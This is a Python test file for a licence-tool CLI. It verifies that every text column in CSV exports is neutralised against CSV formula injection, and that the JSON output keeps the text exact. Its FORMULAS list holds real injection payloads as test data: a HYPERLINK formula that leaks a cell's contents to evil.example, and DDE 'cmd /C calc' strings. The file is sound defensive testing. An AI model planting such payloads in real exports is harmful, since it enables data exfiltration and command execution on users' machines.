"""CSV a spreadsheet opens: a text cell that would run as a formula (``= + - @``, tab, CR at
its start: OWASP's "CSV injection") is neutralised with a leading apostrophe and quoted, in
every CSV the commands write and in every text column; numbers stay numbers; JSON keeps the
text exactly (docs/json-formats.md, section CSV).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from licscreen.cli.output import csv_line
from tests.kit.cli import NOW, run
from tests.kit.strict import set_column, strict_json

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '=1+2";=1+2',
    "=line one\n=line two",
]
# What a CSV reader reads back: the apostrophe, then the text as CSV writes text (tabs as four
# spaces, a lone CR and the other control characters shown as signs).
READ_BACK = {"\t=1+1": "'    =1+1", "\r=1+1": "'\u240d=1+1"}

# Every CSV the commands write, and every text column in it that comes from the store: the
# UPDATE that puts the text there, the arguments, the column, and the row that shows it.
HOLDERS = ("holders", "ROUTEPLAN/rp-planner", "--csv")
COLUMNS = [
    ("licences", "description",
     "UPDATE module_licence SET description = ? WHERE name = 'ten-sales-premium'"),
    ("licences", "name", "UPDATE module_licence SET name = ? WHERE name = 'ten-sales-premium'"),
    ("holders", "full_name", "UPDATE user SET full_name = ? WHERE user_id = 'KNUTA'"),
    ("holders", "user_id", "UPDATE user SET user_id = ? WHERE user_id = 'KNUTA'"),
    ("holders", "comment", "UPDATE licence_user SET comment = ? WHERE user_id = "
                           "(SELECT id FROM user WHERE user_id = 'KNUTA')"),
    ("usage", "currency", "UPDATE installation SET currency = ?"),
    ("usage", "name", "UPDATE metered_service SET name = ? WHERE key = 'mailings'"),
    ("usage", "key", "UPDATE metered_service SET key = ? WHERE key = 'mailings'"),
]
ARGS = {"licences": ("licences", "--csv"), "holders": HOLDERS,
        "usage": ("usage", "--csv", *NOW)}
JSON_ARGS = {"licences": ("licences", "--json"), "holders": (*HOLDERS[:2], "--json"),
             "usage": ("usage", "--json", *NOW)}


def rows_of(command: str, path: Path) -> tuple[str, list[dict[str, str]]]:
    result = run(*ARGS[command], "--db", str(path))
    assert result.exit_code == 0, result.output
    return result.stdout, list(csv.DictReader(io.StringIO(result.stdout)))


def json_values(command: str, path: Path, column: str) -> list[object]:
    data = strict_json(run(*JSON_ARGS[command], "--db", str(path)).stdout)
    if command == "usage":
        return [data[0][column]] if column == "currency" else [
            s[column] for s in data[0]["services"]]
    return [row[column] for row in data]


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
@pytest.mark.parametrize(("command", "column", "sql"), COLUMNS,
                         ids=[f"{c}-{col}" for c, col, _sql in COLUMNS])
def test_a_formula_in_any_text_column_is_neutralised(demo_path: Path, command, column, sql,
                                                     formula):
    set_column(demo_path, sql, formula)
    out, rows = rows_of(command, demo_path)
    expected = READ_BACK.get(formula, "'" + formula)
    cells = [row[column] for row in rows]
    assert expected in cells
    for cell in cells:  # no cell a spreadsheet would run is left, in any row
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert f'"{expected.replace(chr(34), chr(34) * 2)}"' in out  # and it is quoted
    assert formula in json_values(command, demo_path, column)  # JSON: the text as it is


def test_negative_numbers_stay_numbers(demo_path: Path):
    out, rows = rows_of("licences", demo_path)
    premium = next(row for row in rows if row["name"] == "ten-sales-premium")
    assert (premium["free"], premium["in_use"], premium["total"]) == ("-2", "22", "20")
    assert "ten-sales-premium,Sales Premium,user,22,-2,20,false" in out


def test_plain_text_is_written_as_before(demo_path: Path):
    """A name with a hyphen inside, a comma, a quote: only quoting, no apostrophe."""
    set_column(demo_path, "UPDATE user SET full_name = ? WHERE user_id = 'KNUTA'",
               'Aasen-Berg, Knut "KA"')
    out, rows = rows_of("holders", demo_path)
    assert [row["full_name"] for row in rows] == ["Hanne Vik", 'Aasen-Berg, Knut "KA"']
    assert '"Aasen-Berg, Knut ""KA"""' in out


def test_the_neutralised_cell_round_trips_through_a_csv_reader():
    line = csv_line(["=1+1", -2, 2.5, None, True, "a,b", '@x"y', "ok"])
    assert line == '"\'=1+1",-2,2.5,,true,"a,b","\'@x""y",ok\n'
    assert next(csv.reader(io.StringIO(line))) == [
        "'=1+1", "-2", "2.5", "", "true", "a,b", "'@x\"y", "ok"]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00")), min_size=1,
                max_size=5))
def test_any_text_reads_back_as_written_or_neutralised(cells: list[str]):
    """Text without formula starts or control characters reads back exactly; quoting is the
    csv module's own."""
    plain = [c for c in cells if c.isprintable() and not c.lstrip(" ").startswith(
        ("=", "+", "-", "@"))]
    if not plain:
        return
    read = next(csv.reader(io.StringIO(csv_line(plain), newline="")))
    assert read == plain
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerow(plain)
    assert csv_line(plain) == expected.getvalue()
